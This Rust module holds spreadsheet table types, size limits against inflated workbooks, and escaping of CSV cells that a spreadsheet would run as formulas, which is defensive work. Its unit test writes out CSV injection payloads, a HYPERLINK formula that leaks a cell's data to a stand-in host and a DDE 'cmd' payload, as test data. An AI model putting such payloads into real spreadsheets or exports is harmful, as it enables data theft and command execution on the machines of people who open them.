//! A spreadsheet as rows of text cells, whatever file it came from, and the rules for
//! one cell that every reader and writer shares: a cell a spreadsheet would run as a
//! formula, and a number written as a person would type it.

#[derive(Debug)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<TableRow>,
    /// `utf-8`, `utf-8-bom`, `windows-1252`, `xlsx` or `xls`.
    pub encoding: String,
    /// `;`, `,`, `tab`, or empty for a workbook.
    pub delimiter: String,
}

#[derive(Debug)]
pub struct TableRow {
    /// The row's line in the file (CSV) or its row number (XLSX); 1 is the header.
    pub line: u32,
    pub cells: Vec<String>,
    /// What each cell held in a workbook, beside its text; empty for CSV, whose cells
    /// are all text.
    pub kinds: Vec<CellKind>,
}

impl TableRow {
    /// What cell `i` held.
    pub fn kind(&self, i: usize) -> CellKind {
        self.kinds.get(i).copied().unwrap_or_default()
    }
}

/// What a workbook cell held: text (dates included, written as `YYYY-MM-DD`), or a number,
/// written as Rust writes it (`0.025`, `1200`) whatever the language; a number shown as a
/// percentage holds the fraction (`0.025` for 2.5 %).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CellKind {
    #[default]
    Text,
    Number,
    Percent,
}

/// The rows of a sheet as they are read, held to the limits on rows, cells and the
/// text they hold together. Text is charged as each cell is read ([`SheetRows::charge`]),
/// against a budget that all sheets of one workbook share: a short file that names one
/// long shared string in many cells would otherwise grow far past what it unpacks to.
pub(super) struct SheetRows {
    rows: Vec<TableRow>,
    cells: usize,
    text_left: std::rc::Rc<std::cell::Cell<u64>>,
    first_column: usize,
}

impl SheetRows {
    /// Rows with a text budget of their own.
    pub(super) fn new() -> SheetRows {
        SheetRows::sharing(&std::rc::Rc::new(std::cell::Cell::new(
            super::limits::UNPACKED_BYTES,
        )))
    }

    /// Rows whose text is charged to `budget`, shared with other sheets.
    pub(super) fn sharing(budget: &std::rc::Rc<std::cell::Cell<u64>>) -> SheetRows {
        SheetRows {
            rows: Vec::new(),
            cells: 0,
            text_left: std::rc::Rc::clone(budget),
            first_column: usize::MAX,
        }
    }

    /// Charges `bytes` of cell text, before the text is kept anywhere for long.
    pub(super) fn charge(&self, bytes: usize) -> crate::error::Result<()> {
        let left = self.text_left.get();
        if bytes as u64 > left {
            return Err(super::limits::Limit::Unpacked.exceeded());
        }
        self.text_left.set(left - bytes as u64);
        Ok(())
    }

    /// Adds row `line` from its (column, value, kind) cells; empty values are left out, a
    /// row without any is not kept.
    pub(super) fn push(
        &mut self,
        line: u32,
        mut cells: Vec<(usize, String, CellKind)>,
    ) -> crate::error::Result<()> {
        use super::limits::{self, Limit};
        cells.retain(|(_, v, _)| !v.is_empty());
        let Some(width) = cells.iter().map(|(c, _, _)| c + 1).max() else {
            return Ok(());
        };
        if self.rows.len() >= limits::ROWS {
            return Err(Limit::Rows.exceeded());
        }
        self.cells += width;
        if self.cells > limits::CELLS {
            return Err(Limit::Cells.exceeded());
        }
        let first = cells.iter().map(|(c, _, _)| *c).min().unwrap_or(0);
        self.first_column = self.first_column.min(first);
        let mut row = vec![String::new(); width];
        let mut kinds = vec![CellKind::Text; width];
        for (c, v, k) in cells {
            row[c] = as_typed(v);
            kinds[c] = k;
        }
        self.rows.push(TableRow {
            line,
            cells: row,
            kinds,
        });
        Ok(())
    }

    /// The table: the first row is the header; columns left of every value go.
    pub(super) fn finish(self, encoding: &str) -> crate::error::Result<Table> {
        let first_column = self.first_column.min(super::limits::COLUMNS);
        let mut all = self.rows.into_iter();
        let Some(header) = all.next() else {
            return Err(crate::error::Error::ImportEmpty);
        };
        let strip = |mut cells: Vec<String>| {
            cells.drain(..first_column.min(cells.len()));
            cells
        };
        let strip_kinds = |mut kinds: Vec<CellKind>| {
            kinds.drain(..first_column.min(kinds.len()));
            kinds
        };
        Ok(Table {
            headers: strip(header.cells),
            rows: all
                .map(|r| TableRow {
                    line: r.line,
                    cells: strip(r.cells),
                    kinds: strip_kinds(r.kinds),
                })
                .collect(),
            encoding: encoding.into(),
            delimiter: String::new(),
        })
    }
}

/// The first characters that make a spreadsheet read a CSV cell as a formula (OWASP's
/// CSV injection advice, and NUL from the ASVS): `=HYPERLINK(…)` in a supplier name
/// received from outside must not come back out of an export ready to run.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// A cell as it is written to CSV: one that a spreadsheet would run as a formula gets a
/// leading `'`, which spreadsheets show as text. A plain number (`-3.7`, `+31`) holds no
/// formula and stays as it is, so that coordinates and amounts stay numbers.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(cell) => {
            std::borrow::Cow::Owned(format!("'{cell}"))
        }
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

/// A cell as read in: a neutralised cell (see [`neutralised`]) reads back as typed.
pub fn as_typed(cell: String) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest.to_string(),
        _ => cell,
    }
}

/// An optional sign, digits, an optional fraction and an optional exponent, nothing else.
fn is_plain_number(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i > start
    };
    if !digits(&mut i) {
        return false;
    }
    if b.get(i) == Some(&b'.') {
        i += 1;
        if !digits(&mut i) {
            return false;
        }
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if !digits(&mut i) {
            return false;
        }
    }
    i == b.len()
}

/// A number as a person would type it and as the XLSX reader gives it back: whole
/// numbers without ".0".
pub fn number_text(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_as_typed() {
        for cell in [
            "=HYPERLINK(\"http://x\"&B2,\"klik\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let out = neutralised(cell);
            assert_eq!(out, format!("'{cell}"), "{cell}");
            assert_eq!(as_typed(out.into_owned()), cell);
        }
        for plain in ["-3.7", "+31201234567", "12", "1e5", "Fabriek", "'quote", ""] {
            assert_eq!(neutralised(plain), plain, "{plain}");
            assert_eq!(as_typed(plain.to_string()), plain);
        }
    }
}
